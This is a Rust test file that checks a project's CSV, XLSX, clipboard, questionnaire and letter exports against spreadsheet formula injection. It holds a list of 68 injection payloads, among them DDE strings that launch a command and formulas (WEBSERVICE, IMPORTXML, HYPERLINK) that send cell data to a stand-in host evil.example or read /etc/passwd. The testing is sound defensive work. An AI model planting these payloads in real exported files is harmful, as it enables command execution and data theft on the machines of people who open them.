//! H22: no text of ours becomes a formula in a table that goes out: CSV, workbook, clipboard, questionnaire, list of letters.

use std::borrow::Cow;
use std::io::{Cursor, Read as _};
use std::path::PathBuf;

use calamine::{Data, Reader as _, Xlsx};
use changeover::domain::plan::comparison::CriterionGroup;
use changeover::domain::plan::ids::CriterionId;
use changeover::domain::questionnaire::Question;
use changeover::exchange::index_csv::{IndexRow, write_index};
use changeover::exchange::questionnaire::{QuestionnaireWords, questionnaire_csv};
use changeover::exchange::table_out::{TableCell, TableFormat, TableOut, tsv, write};

const PAYLOADS: [&str; 68] = [
    "=1+1",
    "=1+1\n",
    "=A1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
    "=WEBSERVICE(\"https://evil.example/\"&A1)",
    "=IMPORTXML(\"https://evil.example\",\"//a\")",
    "=IMPORTDATA(\"https://evil.example\")",
    "=IMAGE(\"https://evil.example/x.png\")",
    "=DDE(\"soffice\";\"file:///etc/passwd\";\"A1\")",
    "='file:///etc/passwd'#$passwd.A1",
    "=SUM(1;2)",
    "=SUM(1,2)*cmd|' /C calc'!A0",
    "=1/0",
    "=NA()",
    "=#REF!",
    "==1",
    "={1,2}",
    "{=1+1}",
    "+1+1",
    "+1",
    "+886 2 1234 5678",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-1",
    "-2+3+cmd|' /C calc'!A0",
    "--1",
    "-",
    "- a list item",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "@contoso",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "   =1+1",
    "\u{a0}=1+1",
    "\u{3000}=1+1",
    "\u{2003}=1+1",
    "\u{200b}=1+1",
    "\u{200e}=1+1",
    "\u{feff}=1+1",
    "\0=1+1",
    "\u{1}=1+1",
    "\u{b}=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\"=1+1\"",
    "\"\"=1+1",
    "\"=1+1",
    "=\"a\",\"b\"",
    "a,=1+1",
    "a;=1+1",
    "a\t=1+1",
    "a|=1+1",
    "a\n=1+1",
    "a\r=1+1",
    "a\",\n=1+1",
    "a\"\r\n\"=1+1",
    "';=1+1",
    "'=1+1",
    "''=1+1",
    "sep=;\n=1+1",
    "<table><tr><td>=1+1</td></tr></table>",
];

/// Each alone, in a row with a name before it and a number behind it.
fn cell(row: usize, column: usize) -> TableCell<'static> {
    match column {
        0 => TableCell::Text(format!("row {row}").into()),
        1 => TableCell::Text(PAYLOADS[row].into()),
        2 => TableCell::Number(-i64::try_from(row).unwrap()),
        _ => TableCell::Text(PAYLOADS[PAYLOADS.len() - 1 - row].into()),
    }
}

fn table(format: TableFormat) -> Vec<u8> {
    let headers = ["name", "=1+1", "number", "@header"].map(Cow::Borrowed).to_vec();
    let table = TableOut { headers, n_rows: PAYLOADS.len(), cell: &cell };
    write(&table, format, &mut |_, _| Ok(())).unwrap()
}

fn clipboard() -> String {
    let row = |row: usize| {
        let number = format!("{row}");
        vec![
            format!("row {row}").into(),
            PAYLOADS[row].into(),
            number.into(),
            PAYLOADS[PAYLOADS.len() - 1 - row].into(),
        ]
    };
    tsv(&["name", "=1+1", "number", "@header"], (0..PAYLOADS.len()).map(row))
}

fn questionnaire() -> String {
    let words = QuestionnaireWords {
        title: "=1+1".into(),
        intro: "=1+1".into(),
        columns: ["id", "=group", "+question", "-score", "@answer", "\t=whose"].map(ToOwned::to_owned),
        groups: ["=1", "+1", "-1", "@1"].map(ToOwned::to_owned),
        answer: String::new(),
    };
    let question = |text: &&str| Question {
        criterion: CriterionId::new(1),
        group: CriterionGroup::Training,
        text: (*text).to_owned(),
    };
    questionnaire_csv(&words, &PAYLOADS.iter().map(question).collect::<Vec<_>>(), "=1+1")
}

fn letters() -> String {
    let row = |text: &&str| {
        let text = (*text).to_owned();
        IndexRow { customer: text.clone(), subject: text.clone(), problems: text, ..IndexRow::default() }
    };
    let words = ["=a", "+b", "-c", "@d", "e", "f", "g", "h"];
    write_index(words, &PAYLOADS.iter().map(row).collect::<Vec<_>>(), true)
}

/// By what spreadsheets go, written down once more: a sign, whatever is not seen before it.
fn begins_like_a_formula(cell: &str) -> bool {
    let seen = cell
        .trim_start_matches(|c: char| c.is_whitespace() || c.is_control() || "\u{200b}\u{200e}\u{feff}".contains(c));
    seen.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']) || cell.starts_with(['\t', '\r', '\n'])
}

#[track_caller]
fn check_cells(text: &str, delimiter: u8, n_rows: usize) {
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    let mut reader = csv::ReaderBuilder::new().delimiter(delimiter).has_headers(false).from_reader(text.as_bytes());
    let rows: Vec<_> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), n_rows, "a cell broke out of its row");
    for cell in rows.iter().flatten() {
        let is_number = cell
            .strip_prefix('-')
            .is_some_and(|rest| rest.bytes().all(|byte| byte.is_ascii_digit()) && !rest.is_empty());
        assert!(is_number || !begins_like_a_formula(cell), "{cell:?}");
    }
}

#[test]
fn sixty_payloads_are_text_in_every_table_of_text() {
    for bom in [false, true] {
        let text = String::from_utf8(table(TableFormat::Csv { bom })).unwrap();
        check_cells(&text, b',', PAYLOADS.len() + 1);
        let numbers = text.matches("\",-").count() + text.matches(",-").count();
        assert!(40 < numbers, "numbers stay numbers: {numbers}");
    }
    check_cells(&questionnaire(), b',', PAYLOADS.len() + 1);
    check_cells(&letters(), b',', PAYLOADS.len() + 1);
}

#[test]
fn sixty_payloads_are_one_line_each_and_text_on_the_clipboard() {
    let text = clipboard();
    assert_eq!(text.split('\n').count(), PAYLOADS.len() + 2);
    assert!(!text.contains('\r'));
    for line in text.lines() {
        let cells: Vec<_> = line.split('\t').collect();
        assert_eq!(cells.len(), 4, "{line:?}");
        // As it stands, and as a program sees it that takes quotes for those of cells.
        for cell in cells {
            assert!(!begins_like_a_formula(cell) && !begins_like_a_formula(cell.trim_matches('"')), "{cell:?}");
        }
    }
}

#[test]
fn sixty_payloads_are_text_cells_in_a_workbook() {
    let bytes = table(TableFormat::Xlsx);
    let mut package = zip::ZipArchive::new(Cursor::new(&bytes)).unwrap();
    let mut sheet = String::new();
    package.by_name("xl/worksheets/sheet1.xml").unwrap().read_to_string(&mut sheet).unwrap();
    for mark in ["<f>", "<f ", "t=\"str\"", "t=\"e\"", "<hyperlink"] {
        assert!(!sheet.contains(mark), "{mark}");
    }
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(&bytes)).unwrap();
    let name = book.sheet_names()[0].clone();
    assert_eq!(book.worksheet_formula(&name).unwrap().used_cells().count(), 0);
    let range = book.worksheet_range(&name).unwrap();
    assert_eq!(range.height(), PAYLOADS.len() + 1);
    for (_, column, value) in range.used_cells() {
        match value {
            Data::String(text) => assert!(!begins_like_a_formula(text), "{text:?}"),
            Data::Float(_) => assert_eq!(column, 2),
            other => panic!("{other:?}"),
        }
    }
}

/// `scripts/formulas` reads these with another program, and one in which formulas must be found.
#[test]
#[ignore = "writes the files that scripts/formulas reads"]
fn write_tables_for_another_program() {
    let dir = PathBuf::from(std::env::var_os("CHANGEOVER_TABLES").unwrap());
    let put = |name: &str, bytes: &[u8]| std::fs::write(dir.join(name), bytes).unwrap();
    put("list.csv", &table(TableFormat::Csv { bom: false }));
    put("list-bom.csv", &table(TableFormat::Csv { bom: true }));
    put("list.xlsx", &table(TableFormat::Xlsx));
    put("clipboard.tsv", clipboard().as_bytes());
    put("questionnaire.csv", questionnaire().as_bytes());
    put("letters.csv", letters().as_bytes());
    put("control.csv", b"name,formula,error\r\nx,=1+1,=1/0\r\n");
    put("control.tsv", b"name\tformula\terror\nx\t=1+1\t=1/0\n");
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    sheet.write_formula(0, 0, "=1+1").unwrap();
    sheet.write_formula(0, 1, rust_xlsxwriter::Formula::new("=1/0").set_result("#DIV/0!")).unwrap();
    put("control.xlsx", &book.save_to_buffer().unwrap());
}
